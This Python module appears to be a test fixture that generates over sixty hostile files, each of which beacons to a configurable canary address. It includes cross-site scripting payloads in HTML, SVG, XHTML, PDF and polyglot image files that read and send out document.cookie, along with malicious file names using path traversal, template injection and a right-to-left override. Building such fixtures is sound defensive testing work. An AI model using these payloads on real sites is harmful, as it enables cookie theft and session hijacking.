"""Evidence whose only aim is to run, to call somebody or to read a cookie; `{canary}` is who it would call."""

from dataclasses import dataclass

_RUN = "fetch('{canary}/'+document.cookie.length)"
_NAMES = (
    '"><script>fetch("{canary}/name")</script>',
    "<img src=x onerror=\"this.src='{canary}/name'\">",
    "'-fetch('{canary}/name')-'",
    "{{{{7*7}}}}{{% load %}}",
    "../../../etc/passwd\u202egnp.html",
)
_HTML = {
    "script": f"<script>{_RUN}</script>",
    "module": "<script type=module>import('{canary}/m.js')</script>",
    "script-src": "<script src='{canary}/s.js'></script>",
    "onload": f'<body onload="{_RUN}">',
    "onerror": f'<img src=x onerror="{_RUN}">',
    "image": "<img src='{canary}/i.png'>",
    "picture": "<picture><source srcset='{canary}/p.png'><img src=x></picture>",
    "srcset": "<img srcset='{canary}/p.png 1x'>",
    "frame": "<iframe src='{canary}/f'></iframe>",
    "srcdoc": "<iframe srcdoc=\"<img src='{canary}/d'>\"></iframe>",
    "javascript-frame": f'<iframe src="javascript:{_RUN}"></iframe>',
    "object": "<object data='{canary}/o'></object>",
    "embed": "<embed src='{canary}/e'>",
    "style": "<link rel=stylesheet href='{canary}/c.css'>",
    "import": "<style>@import '{canary}/c.css';</style>",
    "background": "<body style=\"background:url('{canary}/b.png')\">x",
    "font": "<style>@font-face{{font-family:f;src:url('{canary}/f.woff')}}p{{font-family:f}}</style><p>x",
    "icon": "<link rel=preload as=image href='{canary}/l.png'>",
    "prefetch": "<link rel=modulepreload href='{canary}/l.js'>",
    "refresh": "<meta http-equiv=refresh content='0;url={canary}/r'>",
    "location": "<script>location='{canary}/l'</script>",
    "form": "<form action='{canary}/f'></form><script>document.forms[0].submit()</script>",
    "video": "<video src='{canary}/v.mp4' autoplay></video>",
    "poster": "<video poster='{canary}/v.png'></video>",
    "audio": "<audio src='{canary}/a.mp3' preload=auto></audio>",
    "track": "<video autoplay src='data:video/mp4,'><track default src='{canary}/t.vtt'></video><img src='{canary}/t'>",
    "beacon": "<script>navigator.sendBeacon('{canary}/b')</script>",
    "events": "<script>new EventSource('{canary}/e')</script>",
    "request": "<script>x=new XMLHttpRequest;x.open('GET','{canary}/x');x.send()</script>",
    "cookie": "<script>new Image().src='{canary}/c?'+document.cookie</script>",
    "storage": "<script>localStorage.x=1;new Image().src='{canary}/s'</script>",
    "parent": "<script>new Image().src='{canary}/p?'+(opener||parent).location.href</script>",
    "click": "<a href='{canary}/k' id=k>x</a><script>k.click()</script>",
    "worker": "<script>new Worker(URL.createObjectURL(new Blob([\"fetch('{canary}/w')\"])))</script>",
    "base": "<base href='{canary}/'><img src=b.png>",
    "input": "<input type=image src='{canary}/i'>",
    "autofocus": f'<input autofocus onfocus="{_RUN}">',
    "template": f"<div><style></div><img src=x onerror=\"{_RUN}\"></style><img src='{{canary}}/t'>",
    "details": f'<details open ontoggle="{_RUN}">x</details>',
    "math": f'<math><mtext><img src=x onerror="{_RUN}"></mtext></math>',
}
_SVG = {
    "script": f"<script>{_RUN}</script>",
    "onload": f'<g onload="{_RUN}"/><script>{_RUN}</script>',
    "image": '<image href="{canary}/i.png" width="9" height="9"/>',
    "import": '<style>@import "{canary}/c.css";</style>',
    "foreign": '<foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="{canary}/f"/></foreignObject>',
    "href": '<script href="{canary}/s.js"/>',
}
_XHTML = {
    "script": f"<script>{_RUN}</script>",
    "image": '<img src="{canary}/i.png"/>',
    "frame": '<iframe src="{canary}/f"/>',
}
_SVG_HEAD = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">'


@dataclass(frozen=True, slots=True)
class Hostile:
    """One file: what it is called, what it claims to be, and what it is."""

    name: str
    media_type: str
    body: bytes


def corpus(canary: str) -> tuple[Hostile, ...]:
    """More than sixty files, each calling an address of its own."""
    made = [*_pages(), *_others()]
    return tuple(
        Hostile(
            _NAMES[place % len(_NAMES)].format(canary=f"{canary}/{place}"),
            media_type,
            f"{text.format(canary=f'{canary}/{place}')}<!-- {place} -->".encode(),
        )
        for place, (media_type, text) in enumerate(made)
    )


def _pages() -> list[tuple[str, str]]:
    html = [("text/html", f"<!doctype html><p>{name}</p>{text}") for name, text in _HTML.items()]
    svg = [("image/svg+xml", f"{_SVG_HEAD}{text}</svg>") for text in _SVG.values()]
    xhtml = [
        ("application/xhtml+xml", f'<html xmlns="http://www.w3.org/1999/xhtml"><body>{text}</body></html>')
        for text in _XHTML.values()
    ]
    return [*html, *svg, *xhtml]


def _others() -> list[tuple[str, str]]:
    script = _HTML["script"]
    pdf = "%PDF-1.7\n1 0 obj<</Type/Catalog/OpenAction<</S/JavaScript/JS(app.launchURL('{canary}'))>>>>endobj\n%%EOF"
    sheet = '<?xml-stylesheet type="text/xsl" href="{canary}/x.xsl"?>'
    mixed = 'MIME-Version: 1.0\nContent-Type: multipart/related; boundary="b"\n\n--b\nContent-Type: text/html\n\n'
    return [
        ("image/png", script),
        ("text/plain", script),
        ("application/json", f'{{{{"x":"{script}"}}}}'),
        ("text/markdown", f"# x\n\n![x]({{canary}}/i.png) {script}"),
        ("text/css", "@import '{canary}/c.css';"),
        ("text/javascript", _RUN),
        ("application/pdf", pdf),
        ("application/xml", f"{sheet}<a/>"),
        ("text/xml", f'<a xmlns:h="http://www.w3.org/1999/xhtml"><h:script>{_RUN}</h:script></a>'),
        ("multipart/related", mixed + script),
        ("text/plain; charset=utf-8", f"\x1b]8;;{{canary}}\x1b\\click\x1b]8;;\x1b\\ {script}"),
        ("image/gif", f"GIF89a/*{script}*/=1;"),
    ]
